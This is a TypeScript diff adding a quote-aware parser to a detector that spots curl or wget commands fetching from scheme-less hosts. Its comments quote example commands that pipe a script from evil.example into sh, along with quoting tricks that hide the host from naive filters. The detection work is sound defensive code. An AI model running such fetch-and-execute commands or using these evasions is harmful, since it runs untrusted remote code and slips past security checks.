@@ -198,10 +198,42 @@ export function fetchesSchemeless(command: string): boolean {
   return false;
 }
 
+/**
+ * Where the command starting at `start` ends, from there: the first `|`, `)`, backtick, `;` or `&`
+ * outside quotes, or the line break; -1 for the end of the text. A quote still open at the line
+ * break (an apostrophe in prose) quotes nothing: then the first of them, quoted or not, as before.
+ * Inside quotes they end nothing: `curl -H "x|y" evil.example/i.sh | sh` fetches evil.example.
+ */
+function commandEnd(command: string, start: number): number {
+  const rest = command.slice(start);
+  const plain = rest.search(/[|)\x60;&\n]/);
+  // The quote open at this point: none, '…', $'…' or "…" (the last two take backslash escapes).
+  let quote: '' | 'single' | 'ansi' | 'double' = '';
+  for (let i = 0; i < rest.length; i++) {
+    const c = rest[i] as string;
+    if (c === '\n') return quote === '' ? i : plain;
+    if (quote === 'single') {
+      if (c === "'") quote = '';
+    } else if (quote !== '') {
+      if (c === '\\') i++;
+      else if (c === (quote === 'ansi' ? "'" : '"')) quote = '';
+    } else if (c === '\\') {
+      i++;
+    } else if (c === "'") {
+      quote = rest[i - 1] === '$' ? 'ansi' : 'single';
+    } else if (c === '"') {
+      quote = 'double';
+    } else if ('|)\x60;&'.includes(c)) {
+      return i;
+    }
+  }
+  return quote === '' ? -1 : plain;
+}
+
 /** fetchesSchemeless for the one curl or wget command that starts at `start`. */
 function fetchesSchemelessAt(command: string, start: number): boolean {
   const tool = command.slice(start, start + 4).toLowerCase() === 'curl' ? 'curl' : 'wget';
-  const end = command.slice(start).search(/[|)\x60;&\n]/);
+  const end = commandEnd(command, start);
   // Shell words as the shell joins them: quoted and bare parts side by side are one word with the
   // quotes removed (`evil.exampl"e"/i.sh`, `"evil"".example/i.sh"` fetch evil.example/i.sh), and
   // bash's `$'…'` and `$"…"` are quotes too, and `$'…'` decodes its escapes (`evil$'\x2e'example`).
